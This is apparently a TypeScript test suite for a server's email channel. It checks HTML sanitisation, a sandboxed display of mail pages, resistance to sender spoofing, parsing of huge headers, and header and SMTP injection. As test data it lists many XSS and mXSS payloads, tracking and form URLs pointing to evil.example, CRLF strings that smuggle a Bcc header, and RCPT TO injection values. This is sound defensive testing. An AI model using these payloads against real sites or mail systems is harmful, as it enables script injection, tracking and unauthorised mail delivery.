import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { after, before, test } from "node:test";
import type { Channel } from "../../src/contract/channels.ts";
import { readConfig } from "../../src/server/config.ts";
import { openIntake } from "../../src/server/intake.ts";
import { type Machines, openMachines } from "../../src/server/machines.ts";
import { cleanHtml } from "../../src/server/media/email/clean-html.ts";
import { compose } from "../../src/server/media/email/compose.ts";
import { email } from "../../src/server/media/email/medium.ts";
import { takeIn } from "../../src/server/media/email/take-in.ts";
import type { Outgoing } from "../../src/server/media/medium.ts";
import { type Cast, cast } from "../cast.ts";
import type { Json } from "../listen.ts";

// Mails as strangers write them: to break the page they are shown on, to speak for somebody else, to stop the post.

let a: Cast;
let mailbox: Channel;
let machines: Machines;
const address = "shop@fjord.example";

before(async () => {
  a = await cast();
  mailbox = await a.maya.post("/channels", { kind: "email", name: "Mail", agentId: null, settings: { address } });
  machines = await openMachines(readConfig(a.house.env));
});
after(() => machines.close());

const hostile: Record<string, string> = {
  script: "<script>alert(1)</script>",
  "a handler": '<img src=x onerror=alert(1)><p onmouseover="alert(1)">x</p>',
  "a handler behind a slash": "<svg/onload=alert(1)><img/src=x/onerror=alert(1)>",
  svg: '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "a mutation through math":
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "a mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "a mutation through a comment": "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
  "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=//evil.example></frameset>',
  "an object": '<object data="javascript:alert(1)"></object><embed src="//evil.example">',
  "a base": '<base href="https://evil.example/"><a href="path">x</a>',
  "a refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "a form":
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  "a script in an address":
    '<a href="javascript:alert(1)">x</a><a href="java\tscript:alert(1)">x</a><a href=" &#106;avascript:alert(1)">x</a>',
  "a page in an address": '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">x</a>',
  "a style sheet":
    "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
  "styles that fetch":
    '<p style="background:url(https://evil.example/x)">x</p><p style="background:u\\72l(//evil.example)">x</p><p style="list-style:url(//evil.example)">x</p>',
  "styles with newer functions":
    "<p style=\"background:image-set('//evil.example' 1x)\">x</p><p style=\"background:src('//evil.example')\">x</p>",
  "a style that covers the page": '<div style="position:fixed;top:0;left:0;width:9999px;z-index:9">x</div>',
  "an expression": '<p style="width:expression(alert(1));behavior:url(x.htc)">x</p>',
  "an image map and sources":
    '<picture><source srcset="//evil.example"></picture><img srcset="//evil.example 1x"><video poster=//evil.example>',
  "an old background":
    '<table background="https://evil.example/x"><tr><td background="//evil.example">x</td></tr></table>',
  "our own names":
    '<a id=app name=app class=dialog data-channel=x href="#app">x</a><p contenteditable tabindex=1 accesskey=x>x</p>',
  "another's picture by cid": '<img src="cid:../../api/v1/me"><img src="cid:x" onerror=alert(1)>',
};

test("nothing that runs, loads, sends or covers is left of a mail's HTML", () => {
  for (const [what, html] of Object.entries(hostile)) {
    for (const clean of [cleanHtml(html), cleanHtml(cleanHtml(html))]) {
      assert.doesNotMatch(
        clean,
        /<(script|svg|math|iframe|object|embed|base|meta|form|input|style|link|video|source)\b/i,
        what,
      );
      assert.doesNotMatch(
        clean,
        /\son\w+\s*=|javascript:|vbscript:|data:text|srcdoc|srcset|url\(|expression|position|@import/i,
        what,
      );
      assert.doesNotMatch(clean, /(?<!data-)\b(src|background|poster)\s*=\s*["']?(https?:)?\/\//i, what);
      assert.doesNotMatch(clean, /evil\.example(?!\/?"[^>]*(rel|data))/i, what);
      assert.doesNotMatch(clean, /\s(id|name|class|contenteditable|accesskey)=/i, what);
    }
  }
});

test("a mail's page is shown in a frame of its own that can run nothing and reach nobody", async () => {
  const from = "mallory@evil.example";
  await posted(mail({ from, html: '<p>Hi <img src="https://evil.example/pixel.gif"></p>' }));
  const { id, messages } = await thread(from);
  const at = `${a.house.url}/api/v1/conversations/${id}/messages/${messages[0]!.id}/html`;
  const page = await fetch(at, { headers: a.maya.headers() });
  const policy = page.headers.get("content-security-policy")!;
  assert.match(policy, /^sandbox/);
  assert.doesNotMatch(policy, /allow-scripts|allow-same-origin|script-src|allow-forms/);
  assert.match(policy, /default-src 'none'/);
  assert.doesNotMatch(/img-src[^;]*/.exec(policy)![0], /http/);
  assert.doesNotMatch(await page.text(), /\ssrc="https:/);
  assert.equal((await fetch(at)).status, 401);
});

const pretended = {
  "a teammate": { from: '"Maya" <maya@example.com>' },
  ourselves: { from: `"Shop" <${address}>`, replyTo: "mallory@evil.example" },
  "a reply of a teammate": { from: "maya@example.com", head: ["X-Parley-Message: msg_00000000000000000000000000"] },
  "a token that was made up": { from: "mallory2@evil.example", to: address.replace("@", `+c.${"a".repeat(38)}@`) },
  "a token in the references": { from: "mallory3@evil.example", head: [`References: <token:${"a".repeat(38)}>`] },
};

for (const [what, more] of Object.entries(pretended)) {
  test(`a mail that pretends to be ${what} is a stranger's, in a conversation of its own`, async () => {
    const before = (await a.maya.get("/conversations?limit=100")).items.length;
    await posted(mail({ ...more, text: `I am ${what}` }));
    const { items } = await a.maya.get("/conversations?limit=100");
    assert.equal(items.length, before + 1);
    const { items: messages } = await a.maya.get(`/conversations/${items[0].id}/messages`);
    assert.deepEqual([messages[0].direction, messages[0].author.kind], ["in", "contact"]);
    assert.notEqual(messages[0].content.email.proof, "pass");
  });
}

const enormous = () => randomBytes(20_000).toString("hex");
const unwieldy: Record<string, Letter> = {
  "a Message-ID of 40 000 characters": { head: [`Message-ID: <${enormous()}@x>`] },
  "references of that length": { head: [`References: <${enormous()}@x>`, `In-Reply-To: <${enormous()}>`] },
  "a sender of 3 000 letters": { from: `${"ä字".repeat(1_000)}${randomBytes(900).toString("hex")}@example.com` },
  "a name of 40 000 characters": { from: `"${enormous()}" <long@example.com>` },
  "a NUL as people write it": { text: "C:\\u0000", head: ["Subject: \\u0000"] },
  "a NUL and half a character": { text: "a\0b\ud83d", head: ["Subject: =?utf-8?Q?a=00b?="] },
};

for (const [what, letter] of Object.entries(unwieldy)) {
  test(`a mail with ${what} holds up no other that comes with it`, async () => {
    const other = `neighbour-${Math.random().toString(36).slice(2)}@example.com`;
    const { found, take } = await open();
    const odd = await takeIn(mail(letter), { address, raw: {} });
    const fine = await takeIn(mail({ from: other }), { address, raw: {} });
    const told = await Promise.allSettled([take(found, odd), take(found, fine), take(found, odd)]);
    assert.deepEqual(
      told.map(({ status }) => status),
      ["fulfilled", "fulfilled", "fulfilled"],
      JSON.stringify(told),
    );
    assert.equal((await thread(other)).messages.length, 1);
  });
}

// Mails of this length are read apart, and given up where they take for ever.
const many = (piece: string) => piece.repeat(3_000_000 / piece.length);
const endless: Record<string, Letter> = {
  "a date of open brackets": { head: [`Date: ${many("(")}`] },
  "results of open and closed brackets": {
    head: [`Authentication-Results: mx.google.com; ${"(".repeat(1_500_000)}${")".repeat(1_500_000)}`],
  },
  "references without end": { head: [`References: ${many("<a ")}`] },
  "a subject of encoded words": { head: [`Subject: ${many("=?utf-8?Q?")}`] },
  "a subject that answers itself": { head: [`Subject: ${many("re: ")}`] },
  "a sender of brackets": { from: `${many("(")}a@example.com` },
  "a sender of quotation marks": { from: `${many('"')}a@example.com` },
  "receivers of groups": { head: [`Cc: ${many("a:b,")}`] },
  "types without end": { head: [`X: x`, `Content-Type: ${many("a; b=c; ")}`] },
  "quotes in quotes": { text: many("> ") },
  "beginnings of quotes": { text: many("On Mon, ") },
  dashes: { text: many("-") },
  "tags that never end": { html: many("<div ") },
  "tables in tables": { html: many("<table><tr><td>") },
  "a style without end": { html: `<p style="color:${many("a ")}">` },
  "a picture without end": { html: `<img src="data:image/png;base64,${many("A ")}!">` },
};

for (const [what, letter] of Object.entries(endless)) {
  test(`a mail with ${what} is read to its end, however long`, async () => {
    const [news, ...others] = await takeIn(mail(letter), { address, authority: "mx.google.com", raw: {} });
    assert.deepEqual(others, []);
    // Only what names no sender is nobody's message, and told as that.
    if (letter.from) return assert.match(news!.kind === "unmatched" ? news!.reason : "", /it names no sender$/);
    assert.ok(news!.kind === "message", JSON.stringify(news).slice(0, 300));
    const { address: sender, text, content } = news!.inbound;
    assert.equal(sender.value, "ada@example.com");
    assert.ok(text.length <= 51_000 && content!.email!.subject.length <= 1_000);
  });
}

test("no value breaks out of its header in a mail of ours, and none adds a receiver", async () => {
  const evil = "x\r\nBcc: victim@example.com\r\n\r\n<script>";
  const settings = email.settings.parse({ address, fromName: evil });
  const { bytes, envelope } = await compose(
    outgoing({
      address: "ada@example.com",
      content: {
        email: {
          subject: evil,
          from: "",
          to: [],
          cc: ["boss@example.com"],
          bcc: ["quiet@example.com"],
          html: null,
          quoted: null,
          references: [],
        },
      },
      earlier: [`id${evil}@x`],
      files: [{ name: evil, mime: `text/plain${evil}`, size: 1, url: "", read: async () => Buffer.from("x") }],
    }),
    settings,
    0,
  );
  const head = bytes.toString("latin1").split("\r\n\r\n", 1)[0]!;
  assert.doesNotMatch(head, /^bcc:/im);
  assert.doesNotMatch(bytes.toString("latin1"), /^bcc:/im);
  assert.deepEqual(envelope.to.toSorted(), ["ada@example.com", "boss@example.com", "quiet@example.com"]);
});

test("to an address that holds two, or a piece of SMTP, nothing is sent", async () => {
  const settings = email.settings.parse({ address, smtp: { host: "smtp.example.com" } });
  const secrets = email.secrets.parse({});
  const ways = { fetch, resolve: () => Promise.reject(new Error("It looked for the server.")), now: Date.now };
  for (const two of [
    "ada@example.com, victim@example.com",
    "ada@example.com>\r\nRCPT TO:<victim@example.com",
    "a <victim@example.com>",
    "ada@example.com;victim@example.com",
  ]) {
    const account = { channelId: "chan_1", settings, secrets, hookUrl: "" };
    const sent = await email.send(outgoing({ address: two }), account, ways);
    assert.equal(sent.kind === "failed" && sent.failure.concerns, "recipient", two);
  }
});

type Letter = { from?: string; replyTo?: string; to?: string; text?: string; html?: string; head?: string[] };

let letters = 0;
function mail({ from = "ada@example.com", replyTo, to = address, text = "Hello", html, head = [] }: Letter): Buffer {
  const has = (name: string) => head.some((line) => line.toLowerCase().startsWith(`${name}:`));
  const lines = [
    `From: ${from}`,
    `To: ${to}`,
    ...(replyTo ? [`Reply-To: ${replyTo}`] : []),
    ...(has("subject") ? [] : ["Subject: Hello"]),
    ...(has("message-id") ? [] : [`Message-ID: <letter-${++letters}@example.com>`]),
    ...head,
    "MIME-Version: 1.0",
    `Content-Type: text/${html ? "html" : "plain"}; charset=utf-8`,
    "",
    html ?? text,
  ];
  return Buffer.from(lines.join("\r\n"));
}

/** As the house takes in what a listener hands it. */
async function open() {
  const found = await machines.channels.find(mailbox.id);
  return { found: found!, take: openIntake(machines).take };
}

async function posted(bytes: Buffer): Promise<void> {
  const { found, take } = await open();
  await take(found, await takeIn(bytes, { address, raw: {} }));
}

function outgoing(more: Partial<Outgoing>): Outgoing {
  return {
    messageId: "msg_00000000000000000000000001",
    attemptId: "att_1",
    conversationId: "conv_1",
    address: "ada@example.com",
    thread: "",
    text: "Hello",
    content: {},
    earlier: [],
    files: [],
    by: "teammate",
    ...more,
  };
}

async function thread(from: string): Promise<{ id: string; messages: Json[] }> {
  const { items } = await a.maya.get("/conversations?medium=email&limit=100");
  for (const { id } of items) {
    const { contact } = await a.maya.get(`/conversations/${id}`);
    if (contact.email === from) return { id, messages: (await a.maya.get(`/conversations/${id}/messages`)).items };
  }
  return { id: "", messages: [] };
}
